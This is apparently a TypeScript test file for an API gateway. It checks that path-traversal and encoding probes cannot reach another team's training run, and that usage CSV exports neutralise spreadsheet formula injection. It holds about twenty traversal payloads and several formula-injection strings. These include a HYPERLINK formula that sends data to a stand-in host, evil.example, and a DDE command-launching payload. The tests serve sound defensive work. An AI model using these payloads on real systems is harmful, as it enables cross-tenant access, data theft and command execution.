import { request as httpRequest } from 'node:http';
import { posix } from 'node:path';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { utcDay } from '../../../src/calendar.js';
import { loadConfig } from '../../../src/config/index.js';
import { startInferenceHost } from '../../fixtures/inference-host.js';
import { startTrainingService, type FakeUpstream } from '../../fixtures/training-service.js';
import { startGateway, tempDatabasePath, type RunningGateway } from '../../helpers/gateway.js';
import { ADMIN_ENTRIES, bearer, KEY_ENTRIES, KEYS } from '../../helpers/keys.js';
import { writeTempConfig } from '../../helpers/process.js';

const admin = { authorization: bearer(KEYS.admin) };

/** The training routes of SPEC 20 on a shared upstream account: ownership on. */
const yaml = (databasePath: string, serviceUrl: string, inferenceUrl: string): string => `
server: { host: 127.0.0.1, port: 0, shutdownGraceMs: 2000 }
upstreams:
  service: { url: "${serviceUrl}", timeoutMs: 5000, auth: { bearer: shared-account-key } }
  inference: { url: "${inferenceUrl}", timeoutMs: 5000 }
auth:
  keys: ${JSON.stringify(KEY_ENTRIES)}
  admin: { keys: ${JSON.stringify(ADMIN_ENTRIES)} }
database: { path: "${databasePath}" }
logging: { level: silent }
routes:
  - { path: /v1/training/runs, methods: [POST], upstream: service, body: json, ownership: { creates: run } }
  - { path: "/v1/training/runs/{run_id}/*", methods: [GET, PUT, POST, DELETE], upstream: service, ownership: { checks: { param: run_id, kind: run } } }
  - { path: "/v1/training/operations/{operation_id}", methods: [GET], upstream: service, ownership: { checks: { param: operation_id, kind: operation } } }
`;

/** A request with its path sent exactly as written (no client normalises dot segments or escapes). */
function rawGet(port: number, path: string, key: string): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host: '127.0.0.1', port, path, method: 'GET', headers: { authorization: bearer(key) }, agent: false }, (res) => {
      let body = '';
      res.on('data', (chunk: Buffer) => (body += chunk.toString()));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('error', reject);
    req.end();
  });
}

/** A path as an upstream that percent-decodes (repeatedly, as some stacks do) and resolves dot segments would read it. */
function asUpstreamReadsIt(path: string): string {
  let decoded = path.split('?')[0]!.replace(/\\/g, '/');
  for (let i = 0; i < 3; i++) {
    try {
      decoded = decodeURIComponent(decoded);
    } catch {
      break;
    }
  }
  return posix.normalize(decoded.replace(/;[^/]*/g, ''));
}

describe('config-route parameters an attacker encodes (SPEC 20, 13)', () => {
  let service: FakeUpstream;
  let inference: FakeUpstream;
  let gw: RunningGateway;
  let runA: string;
  let runB: string;

  beforeAll(async () => {
    [service, inference] = await Promise.all([startTrainingService(), startInferenceHost()]);
    const path = writeTempConfig(yaml(tempDatabasePath(), service.url, inference.url));
    gw = await startGateway(loadConfig(path), path);
    const create = async (key: string) => (await request(gw.url).post('/v1/training/runs').set('authorization', bearer(key)).send({ name: 'r' }).expect(200)).body.id as string;
    runA = await create(KEYS.teamA);
    runB = await create(KEYS.teamB);
  });
  afterAll(async () => {
    await gw.close();
    await Promise.all([service.close(), inference.close()]);
  });

  it('never lets team-b reach team-a\'s run through its own: encoded slashes, colons, dot segments, backslashes, double encoding', async () => {
    const probes = [
      `/v1/training/runs/${runA}/metrics`,
      `/v1/training/runs/${runB}/../${runA}/metrics`,
      `/v1/training/runs/${runB}/..%2F${runA}/metrics`,
      `/v1/training/runs/${runB}/%2E%2E/${runA}/metrics`,
      `/v1/training/runs/${runB}/%2e%2e%2f${runA}`,
      `/v1/training/runs/${runB}%2F..%2F${runA}/metrics`,
      `/v1/training/runs/${runB}%252F..%252F${runA}/metrics`,
      `/v1/training/runs/${runB}/..%252F${runA}`,
      `/v1/training/runs/${runB}/%252E%252E/${runA}`,
      `/v1/training/runs/${runB}%5C..%5C${runA}/metrics`,
      `/v1/training/runs/${runB}/..\\${runA}`,
      `/v1/training/runs/${runB};x/../${runA}/metrics`,
      `/v1/training/runs/${runA}%3A${runB}/metrics`,
      `/v1/training/runs/${runB}%3A/../${runA}`,
      `/v1/training/runs/./${runA}/metrics`,
      `/v1/training/runs//${runA}/metrics`,
      `/v1/training/runs/${runB}/./../${runA}/metrics`,
      `/v1/training/runs/${runB}/x/../../${runA}/metrics`,
      `/v1/training/runs/${encodeURIComponent(runA)}/metrics`,
      `/v1/training/runs/${runB}%00/../${runA}`,
    ];
    const reached: string[] = [];
    const answers: string[] = [];
    for (const probe of probes) {
      const before = service.requests.length;
      const res = await rawGet(gw.port, probe, KEYS.teamB);
      answers.push(`${probe} -> ${res.status}`);
      expect([probe, res.status < 500]).toEqual([probe, true]);
      for (const forwarded of service.requests.slice(before)) if (asUpstreamReadsIt(forwarded.url).includes(runA)) reached.push(`${probe} forwarded as ${forwarded.url} (${res.status})`);
    }
    expect(reached).toEqual([]);
    // Its own run, as plainly named, is served: the probes were refused for what they aimed at.
    expect((await rawGet(gw.port, `/v1/training/runs/${runB}/metrics`, KEYS.teamB)).status).toBe(200);
  });
});

describe('usage CSV with names an attacker chose (formula injection, OWASP)', () => {
  let service: FakeUpstream;
  let inference: FakeUpstream;
  let gw: RunningGateway;
  beforeAll(async () => {
    [service, inference] = await Promise.all([startTrainingService(), startInferenceHost()]);
    const path = writeTempConfig(yaml(tempDatabasePath(), service.url, inference.url));
    gw = await startGateway(loadConfig(path), path);
  });
  afterAll(async () => {
    await gw.close();
    await Promise.all([service.close(), inference.close()]);
  });

  const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', '=cmd|\' /C calc\'!A0'];

  it('writes every model, project and key cell starting with = + - @ tab or CR as text (a leading \'), quoted where it must be', async () => {
    for (const model of FORMULAS) {
      const res = await request(gw.url).post('/v1/chat/completions').set('authorization', bearer(KEYS.teamA)).set('openai-project', 'team-a/-2.5').set('x-fixture-usage', '1,1').send({ model, messages: [{ role: 'user', content: 'hi' }] });
      expect([model, res.status, res.body]).toEqual([model, 200, expect.anything()]);
    }
    await gw.gateway.settled();
    const csv = await request(gw.url).get(`/admin/usage?from=${utcDay()}&to=${utcDay()}&groupBy=model&format=csv`).set(admin);
    expect([csv.status, csv.headers['content-type']]).toEqual([200, 'text/csv; charset=utf-8']);
    const { parse } = await import('csv-parse/sync');
    const rows = parse(csv.text, { relax_column_count: false }) as string[][];
    expect(rows[0]).toEqual(['team', 'project', 'model', 'requests', 'prompt_tokens', 'completion_tokens', 'total_tokens', 'cost']);
    const body = rows.slice(1);
    expect(body.map((row) => row[2]).sort()).toEqual(FORMULAS.map((model) => `'${model}`).sort());
    for (const row of body) {
      expect(row[1]).toBe("'-2.5");
      // No cell a spreadsheet would evaluate: text cells start with ', the counts are plain numbers.
      for (const cell of row) expect([cell, /^[=+\-@\t\r]/.test(cell)]).toEqual([cell, false]);
    }
  });
});
